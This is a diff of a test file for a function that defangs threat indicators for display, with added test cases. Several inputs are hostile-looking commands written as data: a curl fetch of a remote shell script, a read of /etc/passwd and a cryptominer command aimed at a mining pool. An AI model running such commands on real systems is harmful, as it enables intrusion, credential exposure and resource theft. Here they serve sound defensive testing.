@@ -16,6 +16,7 @@ describe('what is shown of a datum', () => {
     [indicator('https://evil.example/a.b?c=d.e'), 'hxxps://evil[.]example/a.b?c=d.e'],
     [indicator('2001:db8::1'), '2001:db8::1'],
     [code('curl http://198.51.100.23/i.sh'), 'curl hxxp://198[.]51[.]100[.]23/i.sh'],
+    [code('cat FILE:///etc/passwd'), 'cat FILE[:]///etc/passwd'],
     [code('kdevtmpfsi -o pool.example:3333'), 'kdevtmpfsi -o pool[.]example:3333'],
     [code('registry.example/shop/storefront:4.2.1'), 'registry.example/shop/storefront:4.2.1'],
     [code('registry.example:5000/shop'), 'registry.example:5000/shop'],
